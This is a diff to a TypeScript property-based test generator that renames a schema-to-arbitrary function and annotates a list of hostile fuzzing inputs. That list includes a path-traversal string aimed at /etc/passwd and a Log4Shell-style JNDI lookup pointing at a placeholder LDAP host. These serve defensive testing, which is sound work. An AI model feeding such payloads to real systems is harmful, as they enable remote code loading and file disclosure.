@@ -58,6 +58,7 @@ export const hostileString: Arbitrary<string> = fc.oneof(
     '../../etc/passwd',
     '%00',
     '%ZZ',
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: a hostile input, meant literally
     '${jndi:ldap://x.invalid/a}',
     'null',
     'true',
@@ -129,13 +130,13 @@ function stringFor(schema: JsonSchema, name: string | undefined, ids: IdPool): A
 }
 
 /** Values that satisfy the schema (as far as a generator can: patterns of free text are filtered, not derived). */
-export function valueOf(schema: JsonSchema, ids: IdPool, name?: string, depth = 0): Arbitrary<unknown> {
+export function arbitraryFor(schema: JsonSchema, ids: IdPool, name?: string, depth = 0): Arbitrary<unknown> {
   if (schema.const !== undefined) return fc.constant(schema.const);
   if (schema.enum) return fc.constantFrom(...schema.enum);
   const branches = schema.anyOf ?? schema.oneOf;
-  if (branches) return fc.oneof(...branches.map((branch) => valueOf(branch, ids, name, depth)));
+  if (branches) return fc.oneof(...branches.map((branch) => arbitraryFor(branch, ids, name, depth)));
   const types = typesOf(schema);
-  if (types.length > 1) return fc.oneof(...types.map((type) => valueOf({ ...schema, type }, ids, name, depth)));
+  if (types.length > 1) return fc.oneof(...types.map((type) => arbitraryFor({ ...schema, type }, ids, name, depth)));
   switch (types[0]) {
     case 'string':
       return stringFor(schema, name, ids);
@@ -149,7 +150,7 @@ export function valueOf(schema: JsonSchema, ids: IdPool, name?: string, depth = 
       return fc.constant(null);
     case 'array': {
       const minLength = schema.minItems ?? 0;
-      return fc.array(valueOf(schema.items ?? {}, ids, name, depth + 1), { minLength, maxLength: Math.max(minLength, Math.min(schema.maxItems ?? 4, 4)) });
+      return fc.array(arbitraryFor(schema.items ?? {}, ids, name, depth + 1), { minLength, maxLength: Math.max(minLength, Math.min(schema.maxItems ?? 4, 4)) });
     }
     case 'object':
       return objectOf(schema, ids, depth);
@@ -160,10 +161,10 @@ export function valueOf(schema: JsonSchema, ids: IdPool, name?: string, depth = 
 
 function objectOf(schema: JsonSchema, ids: IdPool, depth: number): Arbitrary<unknown> {
   const properties = schema.properties ?? {};
-  const model = Object.fromEntries(Object.entries(properties).map(([key, child]) => [key, valueOf(child, ids, key, depth + 1)]));
+  const model = Object.fromEntries(Object.entries(properties).map(([key, child]) => [key, arbitraryFor(child, ids, key, depth + 1)]));
   const record = fc.record(model, { requiredKeys: (schema.required ?? []).filter((key) => key in properties) });
   if (typeof schema.additionalProperties === 'object' && depth < 3) {
-    const extra = fc.dictionary(fc.string({ minLength: 1, maxLength: 20 }), valueOf(schema.additionalProperties, ids, undefined, depth + 1), { maxKeys: 3 });
+    const extra = fc.dictionary(fc.string({ minLength: 1, maxLength: 20 }), arbitraryFor(schema.additionalProperties, ids, undefined, depth + 1), { maxKeys: 3 });
     return fc.tuple(record, extra).map(([known, more]) => ({ ...more, ...known }));
   }
   return record;
